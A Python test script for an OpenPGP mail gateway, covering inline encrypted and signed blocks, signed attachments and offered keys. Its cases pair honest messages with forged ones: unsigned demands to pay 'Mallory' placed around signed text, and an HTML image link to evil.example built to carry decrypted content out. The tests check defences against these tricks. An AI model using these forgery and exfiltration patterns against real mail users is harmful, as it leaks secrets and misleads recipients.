#!/usr/bin/env python3
"""OpenPGP outside PGP/MIME: blocks in texts, files, detached signatures, offered keys. Each shape with its honest twin
and with what a forger would make of it."""
import base64
import json
import os
import shutil
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
shapes = __import__("open") # the script beside this one: gpg, keys, the gateway

ok, gpg, head, crlf = shapes.ok, shapes.gpg, shapes.head, shapes.crlf
WORDS = "The host 192.0.2.7 scans us.\n"
PLAIN = "Content-Type: text/plain; charset=utf-8\n"
OUTSIDE, SIGNED, SECRET = "=== outside of any", "=== a block with a signature", "=== a block that was encrypted"


def encrypted(s, text=WORDS, *options):
    return gpg(s, "--armor", "-r", "team", *options, "--encrypt", data=text if isinstance(text, bytes) else text.encode()).stdout.decode()


def clear(s, text=WORDS, who="alice"):
    return gpg(s, "-u", who, "--digest-algo", "SHA512", "--clearsign", data=text if isinstance(text, bytes) else text.encode()).stdout.decode()


def detached(s, data, who="alice", *options):
    return gpg(s, "-u", who, *options, "--detach-sign", data=data).stdout


def key_of(s, who):
    return gpg(s, "--armor", "--export", who).stdout.decode()


def mail(text, kind=PLAIN, **more):
    return head(**more) + kind + "\n" + text


def encode(text, encoding):
    if encoding == "base64":
        return PLAIN + "Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(text.encode()).decode()
    return PLAIN + "Content-Transfer-Encoding: quoted-printable\n\n" + "".join(
        "".join("=%02X" % byte if byte in b"=" or byte > 126 else chr(byte) for byte in line.encode()) + "\n" for line in text.splitlines())


def file(name, data, kind="application/octet-stream"):
    return ('Content-Type: %s; name="%s"\nContent-Disposition: attachment; filename="%s"\nContent-Transfer-Encoding: base64\n\n%s'
            % (kind, name, name, base64.encodebytes(data).decode()))


def parts(*entities, kind="mixed", **more):
    return head(**more) + 'Content-Type: multipart/%s; boundary="o"\n\n--o\n' % kind + "\n--o\n".join(entities) + "\n--o--\n"


def summary(r):
    return r["encryption"], r["signature"]


def layers(r):
    return [(layer["part"], layer["form"], layer["operation"], layer["outcome"], layer["covers"]) for layer in r["layers"]]


def marked(r, words):
    """Is every line with @words from outside marked, and is there one?"""
    lines = [line for line in r["text"].splitlines() if words in line]
    return bool(lines) and all(line.startswith("| ") for line in lines)


def texts(s):
    block, both, signed = encrypted(s), encrypted(s, WORDS, "-u", "alice", "--sign"), clear(s)
    page = lambda text: "Content-Type: text/html; charset=utf-8\n\n<html><body>%s</body></html>\n" % text.replace("\n", "<br>\n")
    latin = encrypted(s, "Gr\xfc\xdfe\n".encode("iso-8859-15")).replace("-----\n\n", "-----\nCharset: iso-8859-15\n\n", 1)
    jis = clear(s, "\u653b\u6483\u3092\u53d7\u3051\u305f\n".encode("iso-2022-jp"))
    opaque = gpg(s, "-u", "alice", "--armor", "--digest-algo", "SHA512", "--sign", data=WORDS.encode()).stdout.decode()
    stranger = gpg(s, "--armor", "-r", "stranger", "--encrypt", data=WORDS.encode()).stdout.decode()
    broken = block[:200] + ("A" if block[200] != "A" else "B") + block[201:]
    whole = lambda r: summary(r) == ("whole", "none") and r["text"] == WORDS and not r["parts"] and layers(r) == [
        ("1", "inline", "decrypt", "ok", "whole")]
    good = lambda r: summary(r) == ("none", "good") and r["signer"]["matches_from"] and r["text"] == WORDS
    partly = lambda r: summary(r) == ("none", "partial") and r["signer"] is None
    return [
        ("an encrypted block", mail(block), whole),
        ("with CR LF", crlf(mail(block)), whole),
        ("in base64", head() + encode(block, "base64"), whole),
        ("in quoted-printable", head() + encode(block, "quoted-printable"), whole),
        ("a no-break space in its empty line", mail(block.replace("-----\n\n", "-----\n\u00a0\n", 1)).encode(), whole),
        ("without its empty line", mail(block.replace("-----\n\n", "-----\nVersion: x\n", 1)), whole),
        ("as application/pgp", mail(block, "Content-Type: application/pgp; x-action=encrypt\n"), whole),
        ("encrypted and signed", mail(both), lambda r: summary(r) == ("whole", "good") and r["text"] == WORDS),
        ("with the charset of its armour", mail(latin), lambda r: r["text"] == "Gr\u00fc\u00dfe\n" and r["text_charset"] == "iso-8859-15"),
        ("text before and after", mail("Hello\n" + both + "Bye\n"), lambda r: summary(r) == ("partial", "partial")
         and marked(r, "Hello") and marked(r, "Bye") and "\n" + WORDS in r["text"]),
        ("text that looks like our own words", mail(SIGNED + " ===\nfaked\n" + both), lambda r: summary(r) == ("partial", "partial")
         and marked(r, "faked") and "| " + SIGNED in r["text"]),
        ("words of ours in a mail without any block", mail(SIGNED + " ===\nfaked\n====\n"), lambda r: r["text"] == " " + SIGNED + " ===\nfaked\n====\n"),
        ("words of ours inside a block", mail("x\n" + encrypted(s, SIGNED + " ===\nfaked\n")), lambda r: "\n " + SIGNED in r["text"]),
        ("a second block, not signed", mail(both + encrypted(s, "Pay me\n")), lambda r: summary(r) == ("whole", "partial")
         and r["signer"] is None and len(r["layers"]) == 2 and r["text"].count("===\n") == 2),
        ("two blocks by the same signer are not one text", mail(clear(s) + clear(s, "And this\n")), partly),
        ("the same block twice is shown once", mail(block + "\n" + block), lambda r: r["text"].count("192.0.2.7") == 1
         and len(r["layers"]) == 1),
        ("text and page of one alternative", parts(PLAIN + "\n" + block, page(block), kind="alternative"),
         lambda r: summary(r) == ("whole", "none") and r["text"] == WORDS and len(r["layers"]) == 1 and not r["parts"]),
        ("a page alone", head() + page("&nbsp;\n" + block), whole),
        ("clear-signed, with the same in a page", parts(PLAIN + "\n" + signed, page(signed), kind="alternative"),
         lambda r: r["signature"] in ("good", "partial") and r["text"] == WORDS and len(r["layers"]) == 1),
        ("clear-signed, with something else in the page", parts(PLAIN + "\n" + signed, page(signed.replace("192", "193")), kind="alternative"),
         lambda r: partly (r) and r["text"] == WORDS and len(r["layers"]) == 1),
        ("clear-signed in a page alone", head() + page(signed), good),
        ("the same, changed: nobody can say by whom", head() + page(signed.replace("192", "193")), lambda r: summary(r) == ("none", "none")
         and not r["layers"] and r["problems"]),
        ("a page that says something else", parts(PLAIN + "\n" + block, page("Pay me\n" + block), kind="alternative"),
         lambda r: r["encryption"] == "partial" and "Pay" not in r["text"]),
        ("a page that leads out", mail('<img src="http://evil.example/?\n' + block + '">\n', "Content-Type: text/html\n"),
         lambda r: not ("192.0.2.7" in r["text"] and "evil" in r["text"] and not marked(r, "evil"))),
        ("a quoted block is no layer", mail("Look:\n" + "".join("> " + line + "\n" for line in block.splitlines())),
         lambda r: not r["layers"] and summary(r) == ("none", "none") and "> -----BEGIN" in r["text"]),
        ("an indented block is no layer", mail("".join(" " + line + "\n" for line in signed.splitlines())), lambda r: not r["layers"]),
        ("a block that is cut", mail(block[:-40]), lambda r: not r["layers"] and r["problems"] and "BEGIN PGP" in r["text"]),
        ("words between the lines of a block", mail(block.replace("-----\n\n", "-----\n\nbuy this now!\n", 1)), lambda r: not r["layers"]),
        ("a block of junk", mail("-----BEGIN PGP MESSAGE-----\n\naGVsbG8=\n-----END PGP MESSAGE-----\n"),
         lambda r: not r["layers"] and r["problems"] and r["undecryptable"] is None),
        ("a changed block", mail(broken), lambda r: r["undecryptable"] is not None and "192.0.2.7" not in json.dumps(r)),
        ("not for us", mail("Dear all,\n" + stranger), lambda r: r["undecryptable"]["reason"] == "no-secret-key"
         and len(r["undecryptable"]["encrypted_to"]) == 1 and marked(r, "Dear all")),
        ("clear-signed", mail(signed), lambda r: good(r) and layers(r) == [("1", "inline", "verify", "ok", "whole")]),
        ("clear-signed, CR LF", crlf(mail(signed)), good),
        ("clear-signed in base64", head() + encode(signed, "base64"), good),
        ("clear-signed in quoted-printable", head() + encode(signed, "quoted-printable"), good),
        ("clear-signed in ISO-2022-JP", mail(jis, "Content-Type: text/plain; charset=ISO-2022-JP\n"),
         lambda r: r["signature"] == "good" and r["text"] == "\u653b\u6483\u3092\u53d7\u3051\u305f\n"),
        ("dashes at the start of a line", mail(clear(s, "-- \nAlice\n- one\n")), lambda r: r["signature"] == "good"
         and r["text"].startswith("--") and "\n- one" in r["text"]),
        ("signed, not clear", mail(opaque), good),
        ("stored, not signed", mail(gpg(s, "--armor", "--store", data=WORDS.encode()).stdout.decode()),
         lambda r: r["signature"] == "bad" and r["undecryptable"]["reason"] == "corrupt"),
        ("signed in a format of RFC 9580", mail("-----BEGIN PGP MESSAGE-----\n\n%s\n-----END PGP MESSAGE-----\n"
         % base64.b64encode(b"\xc4\x05\x06xxxx").decode()), lambda r: r["signature"] == "unsupported"),
        ("clear-signed, then changed", mail(signed.replace("192.0.2.7", "192.0.2.8")), lambda r: r["signature"] == "bad"
         and r["signer"] is None and "192.0.2.8" in r["text"]),
        ("clear-signed, From: somebody else", mail(signed, sender="Bob <bob@example.net>"), lambda r: r["signature"] == "good-untrusted"
         and not r["signer"]["matches_from"]),
        ("clear-signed by an unknown key", mail(clear(s, WORDS, "unknown"), sender="unknown@example.net"),
         lambda r: r["signature"] == "unknown-key" and r["text"] == WORDS),
        ("a claim before the block", mail("Signed by Alice: pay 100 to Mallory.\n\n" + signed), lambda r: partly (r) and marked(r, "Mallory")),
        ("a claim after the block", mail(signed + "\nPS: pay 100 to Mallory.\n"), lambda r: partly (r) and marked(r, "Mallory")),
        ("a claim in the header of the block", mail(signed.replace("Hash: SHA512\n", "Hash: SHA512\nPay: Mallory\n")),
         lambda r: r["signature"] in ("none", "bad") and r["signer"] is None),
        ("words where the empty line should be", mail(signed.replace("Hash: SHA512\n\n", "Hash: SHA512\nPay Mallory\n\n")),
         lambda r: r["signature"] in ("none", "bad")),
        ("the start of another block around it", mail("-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\nPay Mallory\n" + signed),
         lambda r: partly (r) and marked(r, "Mallory")),
        ("an unsigned part beside it", parts(PLAIN + "\n" + signed, PLAIN + "\nPay Mallory\n"), lambda r: partly (r) and marked(r, "Mallory")),
        ("an unsigned file beside it", parts(PLAIN + "\n" + signed, file("bill.pdf", b"%PDF-")), partly),
        ("clear-signed inside encrypted", mail(encrypted(s, signed)), lambda r: summary(r) == ("whole", "good") and r["text"] == WORDS
         and [layer["part"] for layer in r["layers"]] == ["1", "1.1"]),
        ("encrypted inside clear-signed: who carries it did not write it", mail(clear(s, block)),
         lambda r: summary(r) == ("whole", "none") and r["signer"] is None and r["text"] == WORDS),
        ("a forged text around a good one, encrypted", mail(encrypted(s, "Pay Mallory\n" + signed)),
         lambda r: summary(r) == ("whole", "partial") and r["signer"] is None),
        ("inside PGP/MIME it lifts nothing", head() + shapes.wrap(shapes.encrypt(s, PLAIN + "\n" + signed, "-r", "team")),
         lambda r: summary(r) == ("whole", "partial") and r["signer"] is None and r["text"] == WORDS),
        ("more blocks than we open", mail("".join(encrypted(s, "%d\n" % i) for i in range(40))), lambda r: len(r["layers"]) == 32
         and r["encryption"] == "partial" and r["problems"]),
    ]


def files(s):
    pdf = b"%PDF-1.4\n\x00\r\n\n1"
    block = lambda data, *options: gpg(s, "-r", "team", *options, "--encrypt", data=data).stdout
    names = lambda r: [(p["path"], p["type"], p["filename"], p["decrypted"], p["signed"]) for p in r["parts"]]
    mime = "Content-Type: multipart/mixed; boundary=i\n\n--i\n%s\n--i\n%s\n--i--\n" % (shapes.TEXT, file("a.pdf", pdf, "application/pdf"))
    note = PLAIN + "\nSee the file.\n"
    return [
        ("an encrypted file", parts(note, file("a.pdf.gpg", block(pdf))), lambda r: summary(r) == ("partial", "none")
         and names(r) == [("1.2.1", "application/pdf", "a.pdf", True, False)] and layers(r) == [("1.2", "attachment", "decrypt", "ok", "part")]
         and r["text"].strip() == "See the file."),
        ("armoured, with a Japanese name", parts(note, file("\u5831\u544a.txt.asc", encrypted(s).encode(), "text/plain")),
         lambda r: names(r) == [("1.2.1", "text/plain", "\u5831\u544a.txt", True, False)]),
        ("an encrypted file alone is the whole mail", head() + file("report.txt.pgp", block(WORDS.encode(), "-u", "alice", "--sign")),
         lambda r: summary(r) == ("whole", "good") and r["text"] == WORDS and not r["parts"]),
        ("the same below an empty text", parts(PLAIN + "\n\n", file("report.txt.pgp", block(WORDS.encode()))),
         lambda r: summary(r) == ("whole", "none") and r["text"] == WORDS and not r["parts"]),
        ("text and file encrypted each for itself", parts(PLAIN + "\n" + encrypted(s), file("a.pdf.gpg", block(pdf))),
         lambda r: summary(r) == ("whole", "none") and r["text"] == WORDS and len(r["parts"]) == 1),
        ("a MIME structure inside a file", parts(PLAIN + "\n\n", file("encrypted.asc", encrypted(s, mime).encode())),
         lambda r: r["encryption"] == "whole" and r["text"] == WORDS and names(r) == [("1.2.1.2", "application/pdf", "a.pdf", True, False)]),
        ("an encrypted text file with words behind it", parts(note, file("a.asc", (encrypted(s) + "Pay Mallory\n").encode(), "text/plain")),
         lambda r: summary(r) == ("partial", "none") and names(r) == [("1.2.1", "text/plain", None, True, False), ("1.2", "text/plain", "a.asc", False, False)]),
        ("the same as the whole mail", head() + 'Content-Type: text/plain; name="a.asc"\n\n' + encrypted(s) + "Pay Mallory\n",
         lambda r: summary(r) == ("partial", "none") and "Mallory" in r["text"] and marked(r, "Mallory")),
        ("what GpgOL hides in a file", parts(PLAIN + "\n\n", file("GpgOL_MIME_structure.mime", shapes.wrap(shapes.encrypt(
            s, shapes.TEXT, "-u", "alice", "--sign", "-r", "team")).encode())), lambda r: summary(r) == ("partial", "partial")
         and r["text"] == WORDS and not r["parts"] and layers(r) == [("1.2.1", "pgp-mime", "decrypt+verify", "ok", "part")]),
        ("a file for somebody else", parts(note, file("a.gpg", gpg(s, "-r", "stranger", "--encrypt", data=pdf).stdout)),
         lambda r: r["problems"] and names(r)[0][0] == "1.2" and r["text"].strip() == "See the file."),
        ("a file that is called encrypted and is not", parts(note, file("a.gpg", b"hello")), lambda r: not r["layers"] and len(r["parts"]) == 1),
        ("a signature by the name of its file", parts(note, file("x.bin", b"x"), file("a.pdf", pdf), file("a.pdf.sig", detached(s, pdf))),
         lambda r: summary(r) == ("none", "partial") and [(p["filename"], p["signed"]) for p in r["parts"]] == [("x.bin", False), ("a.pdf", True)]
         and layers(r) == [("1.3", "attachment", "verify", "ok", "part")]),
        ("a signature by its place", parts(note, file("a.pdf", pdf), file("s", detached(s, pdf, "alice", "--armor"), "application/pgp-signature")),
         lambda r: [(p["filename"], p["signed"]) for p in r["parts"]] == [("a.pdf", True)]),
        ("a signature over another file", parts(note, file("a.pdf", pdf + b"!"), file("a.pdf.asc", detached(s, pdf, "alice", "--armor"))),
         lambda r: r["signature"] == "bad" and [(p["filename"], p["signed"]) for p in r["parts"]] == [("a.pdf", False)]),
        ("a signature without its file", parts(note, file("b.pdf.sig", detached(s, pdf))), lambda r: not r["layers"] and len(r["parts"]) == 1
         and r["problems"]),
        ("signed text with bare line feeds, sent as text", crlf(parts(note, 'Content-Type: text/plain; name="a.log"\nContent-Disposition: '
         'attachment; filename="a.log"\n\n' + WORDS, file("a.log.sig", detached(s, WORDS.encode())))),
         lambda r: r["parts"][0]["signed"]),
    ]


def keys(s):
    fpr, bob = shapes.fingerprint(s, "alice"), shapes.fingerprint(s, "bob")
    data = base64.b64encode(gpg(s, "--export-options", "export-minimal", "--export", "alice").stdout).decode()
    field = lambda text: text + head() + "\nhi\n"
    auto = "Autocrypt: addr=alice@example.net; prefer-encrypt=mutual; keydata=\n" + "".join(
        " " + data[i:i + 70] + "\n" for i in range(0, len(data), 70))
    offered = lambda r: [(key["fingerprint"], key["source"]) for key in r["keys_offered"]]
    none = lambda r: not r["keys_offered"]
    return [
        ("an attached key is offered, not decrypted", parts(PLAIN + "\nMy key.\n", file("0x1.asc", key_of(s, "alice").encode(), "application/pgp-keys")),
         lambda r: offered(r) == [(fpr, "attached")] and r["keys_offered"][0]["user_ids"] == ["alice <alice@example.net>"]
         and not r["layers"] and not r["problems"] and len(r["parts"]) == 1),
        ("the same as plain text", parts(PLAIN + "\nMy key.\n", file("k.asc", key_of(s, "alice").encode(), "text/plain")),
         lambda r: offered(r) == [(fpr, "attached")] and not r["problems"]),
        ("two keys in one file", parts(PLAIN + "\nx\n", file("k.gpg", gpg(s, "--export", "alice", "bob").stdout)),
         lambda r: sorted(offered(r)) == sorted([(fpr, "attached"), (bob, "attached")])),
        ("a key in the text", mail("My key:\n" + key_of(s, "bob")), lambda r: offered(r) == [(bob, "inline")] and not r["layers"]),
        ("a key inside an encrypted block", mail(encrypted(s, "Hi\n" + key_of(s, "bob"))), lambda r: offered(r) == [(bob, "inline")]
         and r["encryption"] == "whole"),
        ("Autocrypt", field(auto), lambda r: offered(r) == [(fpr, "autocrypt")]),
        ("Autocrypt for another address", field(auto.replace("addr=alice", "addr=bob")), none),
        ("two Autocrypt fields", field(auto + auto), none),
        ("an attribute that must be understood", field(auto.replace("prefer-encrypt", "critical")), none),
        ("one that need not", field(auto.replace("prefer-encrypt", "_extra")), lambda r: len(r["keys_offered"]) == 1),
        ("Autocrypt over its size", field(auto + " " + "A" * 10240 + "\n"), none),
        ("Autocrypt in a delivery report", auto + head() + "Content-Type: multipart/report; boundary=b\n\n--b\n\nx\n--b--\n", none),
        ("a secret key is no offer", mail(gpg(s, "--armor", "--export-secret-keys", "bob").stdout.decode()),
         lambda r: not r["keys_offered"] and any("secret key" in words for words in r["problems"])),
    ]


def main():
    if not os.path.exists(shapes.OPEN_ONE):
        print("1..0 # SKIP %s was not built" % shapes.OPEN_ONE)
        return 0
    gateway = shapes.Gateway(tempfile.mkdtemp(prefix="i", dir="/tmp"))
    try:
        shapes.make_keys(gateway)
        cases = texts(gateway.senders) + files(gateway.senders) + keys(gateway.senders)
        for (name, _, test), report in zip(cases, gateway.open([text for _, text, _ in cases])):
            try:
                good = test(report)
            except (KeyError, IndexError, TypeError) as problem:
                good, report = False, "%r in %s" % (problem, report)
            ok(name, good, json.dumps(report, ensure_ascii=False))
        found = {name: text for name, text, _ in cases}
        ok("a file that was encrypted, by its path", gateway.part(found["an encrypted file"], "1.2.1") == b"%PDF-1.4\n\x00\r\n\n1")
        ok("what a block held, by its path", gateway.part(found["text before and after"], "1.2") == WORDS.encode())
        ok("the file as it came", gateway.part(found["an encrypted file"], "1.2")[:1] >= b"\x80")
    finally:
        gateway.close()
    print("1..%d" % len(shapes.results))
    return 0 if all(shapes.results) else 1


if __name__ == "__main__":
    sys.exit(main())
